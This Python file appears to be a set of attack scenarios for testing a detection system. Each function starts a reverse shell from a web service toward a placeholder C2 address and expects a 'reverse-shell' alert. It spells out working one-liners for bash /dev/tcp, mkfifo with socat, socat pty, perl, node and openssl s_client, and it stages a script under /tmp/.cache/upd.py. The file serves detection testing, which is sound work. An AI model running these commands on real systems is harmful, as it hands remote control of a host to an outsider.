"""Shells that somebody elsewhere commands, in the ways that are usual."""

from __future__ import annotations

from proving.operators import Operator, waits
from proving.scenario import Must, attack
from proving.world import Actor, ScenarioError, World

C2 = "203.0.113.70"
NOT = ("port-scan", "lateral-movement", "cryptomining", "data-exfiltration")
MAY = ("unexpected-process", "baseline-deviation", "beaconing")
SERVICE = "shop.service"
"""The shells' parents are a web application's: nobody is at a terminal there."""


def over(operator: Operator, actor: Actor, seconds: float = 20) -> None:
    """The operator said goodbye and had an answer."""
    actor.wait(seconds)
    if not operator.answered:
        raise ScenarioError(f"no answer to id: {operator.heard} {actor.said()[-200:]}")


@attack(
    "rshell-bash",
    "bash -i with its streams on /dev/tcp",
    must=(Must("reverse-shell", SERVICE, C2, within=1.0),),
    may=MAY,
    must_not=NOT,
)
def bash(world: World) -> None:
    operator = waits(world, C2, 4444)
    world.mark()
    over(operator, world.start("bash", "-c", f"bash -i >& /dev/tcp/{C2}/4444 0>&1", unit=SERVICE))


@attack(
    "rshell-fifo",
    "sh reads from a named pipe that a relay fills from the network, and writes to the relay",
    must=(Must("reverse-shell", SERVICE, C2, within=1.0),),
    may=MAY,
    must_not=NOT,
    tools=("socat", "mkfifo"),
)
def fifo(world: World) -> None:
    operator = waits(world, C2, 4445)
    command = f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | socat - TCP:{C2}:4445 > /tmp/f"
    world.mark()
    over(operator, world.start("sh", "-c", command, unit=SERVICE))


@attack(
    "rshell-socat-pty",
    "socat gives a shell a terminal of its own and carries it to a host beyond",
    must=(Must("reverse-shell", SERVICE, C2, within=1.0),),
    may=MAY,
    must_not=NOT,
    tools=("socat",),
)
def socat(world: World) -> None:
    operator = waits(world, C2, 4446)
    world.mark()
    over(operator, world.start("socat", f"TCP:{C2}:4446", "EXEC:'bash -i',pty,stderr,setsid,sigint,sane", unit=SERVICE))


@attack(
    "rshell-python-dup",
    "a Python program makes the socket its streams and becomes a shell",
    must=(Must("reverse-shell", SERVICE, C2, within=1.0),),
    may=MAY,
    must_not=NOT,
)
def python_dup(world: World) -> None:
    operator = waits(world, C2, 443)
    path = world.program("/tmp/.cache/upd.py", "shells.py")
    world.mark()
    over(operator, world.script(path, "dup", C2, "443", unit=SERVICE))


@attack(
    "rshell-python-pty",
    "a Python program carries a shell's pseudo-terminal to a host beyond",
    must=(Must("reverse-shell", SERVICE, C2, within=1.0),),
    may=MAY,
    must_not=NOT,
)
def python_pty(world: World) -> None:
    operator = waits(world, C2, 8443)
    path = world.program("/tmp/.cache/upd.py", "shells.py")
    world.mark()
    over(operator, world.script(path, "pty", C2, "8443", unit=SERVICE))


@attack(
    "rshell-python-pipes",
    "a Python program carries a shell's pipes to a host beyond",
    must=(Must("reverse-shell", SERVICE, C2, within=1.0),),
    may=MAY,
    must_not=NOT,
)
def python_pipes(world: World) -> None:
    operator = waits(world, C2, 8080)
    path = world.program("/tmp/.cache/upd.py", "shells.py")
    world.mark()
    over(operator, world.script(path, "pipes", C2, "8080", unit=SERVICE))


@attack(
    "rshell-commands",
    "a program runs each line that comes from a host beyond and sends the output back; no shell stays",
    must=(Must("reverse-shell", SERVICE, C2),),
    may=MAY,
    must_not=NOT,
)
def commands(world: World) -> None:
    operator = waits(world, C2, 9443)
    path = world.program("/tmp/.cache/upd.py", "shells.py")
    world.mark()
    over(operator, world.script(path, "commands", C2, "9443", unit=SERVICE))


@attack(
    "rshell-perl",
    "perl opens its streams on a socket and becomes sh -i",
    must=(Must("reverse-shell", SERVICE, C2, within=1.0),),
    may=MAY,
    must_not=NOT,
    tools=("perl",),
)
def perl(world: World) -> None:
    operator = waits(world, C2, 4447)
    code = (
        f'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4447,inet_aton("{C2}")));'
        'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'
    )
    world.mark()
    over(operator, world.start("perl", "-e", code, unit=SERVICE))


@attack(
    "rshell-node",
    "node pipes a shell's streams to a socket",
    must=(Must("reverse-shell", SERVICE, C2, within=1.0),),
    may=MAY,
    must_not=NOT,
    tools=("node",),
)
def node(world: World) -> None:
    operator = waits(world, C2, 4448)
    code = (
        f'const s=require("net").connect(4448,"{C2}",()=>{{const p=require("child_process").spawn("/bin/sh",[]);'
        "s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s);p.on('exit',()=>s.end())})"
    )
    world.mark()
    over(operator, world.start("node", "-e", code, unit=SERVICE))


@attack(
    "rshell-openssl",
    "sh on a named pipe, carried through openssl s_client: the wire shows TLS alone",
    must=(Must("reverse-shell", SERVICE, "sync.cdn-edge.example", within=1.0),),
    may=MAY,
    must_not=NOT,
    tools=("openssl", "mkfifo"),
)
def openssl(world: World) -> None:
    operator = waits(world, C2, 443, "sync.cdn-edge.example", tls=True)
    client = "openssl s_client -quiet -connect sync.cdn-edge.example:443"
    command = f"mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | {client} > /tmp/s 2>/dev/null"
    world.mark()
    over(operator, world.start("sh", "-c", f"{command}; rm -f /tmp/s", unit=SERVICE))
